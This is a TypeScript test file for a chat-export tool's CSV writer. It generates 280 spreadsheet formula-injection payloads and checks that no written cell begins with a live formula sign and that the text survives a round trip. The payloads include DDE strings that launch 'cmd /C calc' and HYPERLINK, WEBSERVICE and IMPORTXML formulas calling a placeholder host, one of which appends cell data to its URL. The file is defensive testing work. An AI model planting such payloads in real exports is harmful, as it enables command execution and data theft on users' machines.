import { writeFileSync } from 'node:fs'
import { expect, it } from 'vitest'
import type { Cell } from '../../../shared/formats/format'
import { csvRows } from '../../../shared/importing/csv-rows'
import { writeCsv, type WrittenChat } from '../../../shared/importing/write-messages'
import { documentOf, memorySource } from '../../support/importing'

const BEFORE = ['', ' ', '  ', '\t', '\u00a0', '　', '\'', '\'\'', '"', '\r', '\n', '\ufeff', '\u200b', '\u202e']
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '=-', '+-@']
const CALLS = ['1+1', 'SUM(A1:A9)', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://example.invalid/?"&A1,"好")', 'WEBSERVICE("http://example.invalid")', 'IMPORTXML("http://example.invalid","//a")', 'DDE("cmd";"/C calc";"x")']
/** 280 texts that some spreadsheet program takes for a formula, or would if it took away what stands before the sign. */
const PAYLOADS = BEFORE.flatMap((before, b) => SIGNS.flatMap((sign, s) => [`${before}${sign}${CALLS[(b + s) % CALLS.length]!}`, `${before}${sign}${CALLS[(b * 3 + s + 1) % CALLS.length]!}`]))

const chat: WrittenChat = {
  platform: 'qq', time: { basis: 'local', precision: 'second' }, group: { name: PAYLOADS[0]!, type: 'group' }, members: [],
  messages: PAYLOADS.map((text, i) => ({ ts: new Date(Date.UTC(2026, 0, 1, 0, 0, i)).toISOString().slice(0, 19), senderName: PAYLOADS[(i + 1) % PAYLOADS.length]!.trim(), kind: 'text', text, id: `m${i}` })),
} as WrittenChat

/** What a program that looks behind blanks, quotes of its own and widths sees first. */
const firstSign = (text: string): string => text.normalize('NFKC').replace(/^[\s\u200b\ufeff\u202e]+/, '').charAt(0)

it('a table of 280 texts that look like formulas has no cell that begins like one, and comes back exactly', async () => {
  expect(new Set(PAYLOADS).size).toBeGreaterThan(200)
  const csv = [...writeCsv([chat])].join('')
  // For a spreadsheet program: `FORMULA_TABLE=/tmp/a.csv`.
  if (process.env['FORMULA_TABLE']) writeFileSync(process.env['FORMULA_TABLE'], csv)
  const rows: (readonly Cell[])[] = []
  async function* whole(): AsyncGenerator<string> { yield csv }
  for await (const batch of csvRows(whole())) rows.push(...batch.rows)
  expect(rows).toHaveLength(PAYLOADS.length + 1)
  const live = rows.flatMap(row => row.map(cell => cell.text)).filter(text => ['=', '+', '-', '@'].includes(firstSign(text)))
  expect(live).toEqual([])
  const read = await documentOf(memorySource('a.csv', csv))
  expect(read.messages!.map(message => message.text)).toEqual(PAYLOADS)
})
